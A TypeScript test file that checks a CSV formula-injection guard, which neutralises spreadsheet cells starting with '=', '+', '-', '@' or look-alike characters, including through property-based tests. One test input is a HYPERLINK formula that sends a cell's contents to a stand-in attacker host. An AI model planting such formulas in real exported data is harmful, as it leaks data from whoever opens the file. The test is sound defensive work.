import fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { inert, inertJson } from './inert'

/** Cells as a spreadsheet finds them whose list separator is `;` or `,`: a quote counts at the beginning of a cell only. */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = []
  let at = 0
  while (at <= text.length) {
    let cell = ''
    if (text[at] === '"') {
      for (at += 1; at < text.length; at += 1) {
        if (text[at] !== '"') cell += text[at]
        else if (text[at + 1] === '"') cell += text[(at += 1)]
        else break
      }
      at += 1
    }
    for (; at < text.length && text[at] !== separator && text[at] !== '\n' && text[at] !== '\r'; at += 1)
      cell += text[at]
    cells.push(cell)
    at += 1
  }
  return cells
}

const isFormula = (cell: string) =>
  /^[\s\p{C}\p{Z}"'“”]*[=+\-@＝＋－＠−]/u.test(cell) && !/^[\s\p{C}\p{Z}"“”]*'/u.test(cell)

const asCell = (text: string) => `"${text.replaceAll('"', '""')}"`

describe('a cell', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tplain',
    '\rplain',
    '  =1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '"=1',
    "'=1",
    '" \n "=1',
    '＝1',
    '＋1',
    '－1',
    '＠SUM',
    '−1',
    '﹦1',
    '=HYPERLINK("http://evil.example?"&A1;"x")',
  ])('%j begins with an apostrophe', (text) => {
    expect(inert(text)[0]).toBe("'")
    expect(inert(text).replaceAll("'", '')).toBe(text.replaceAll("'", ''))
  })

  it.each([
    '',
    'Ada',
    '1+1',
    'a=b',
    'ada@example.org',
    'well-known',
    '{"a": -1}',
    '2026-11-21',
    "it's",
    'a\nb',
    'x; y',
  ])('%j stays as it is', (text) => expect(inert(text)).toBe(text))

  it('holds no formula where a semicolon, a tab or a line break divides', () => {
    expect(inert('a;=1')).toBe("a;'=1")
    expect(inert('a\n"=1')).toBe('a\n\'"=1')
    expect(inert('a\r\n +1; \t@x')).toBe("a\r\n' +1; \t'@x")
  })

  it('takes time in proportion to its length', () => {
    const started = performance.now()
    for (const text of ['\n'.repeat(200_000), '; '.repeat(100_000), `${'\n'.repeat(200_000)}=`]) inert(text)
    expect(performance.now() - started).toBeLessThan(4_500)
  })
})

test.each([',', ';', '\t'])('no text becomes a formula in a spreadsheet that divides by %j', (separator) => {
  const nasty = fc.array(
    fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      '−',
      '\t',
      '\r',
      '\n',
      ' ',
      '"',
      "'",
      ';',
      ',',
      '\u00a0',
      '\ufeff',
      'a',
      '1',
    ),
    { maxLength: 12 },
  )
  fc.assert(
    fc.property(nasty, nasty, (one, two) => {
      const line = `x,${asCell(inert(one.join('')))},${asCell(inert(two.join('')))}`
      expect(cellsOf(line, separator).filter(isFormula)).toEqual([])
    }),
    { numRuns: 2_000 },
  )
})

test('JSON stays JSON of the same value', () => {
  const json = JSON.stringify({ a: 'x;=1', b: ['; "+1"', -5], c: 'a;b' })
  expect(inertJson(json)).not.toContain(';')
  expect(JSON.parse(inertJson(json))).toEqual(JSON.parse(json))
  expect(inertJson('{"a":"x; y"}')).toBe('{"a":"x; y"}')
  expect(inertJson('-5')).toBe("'-5")
})
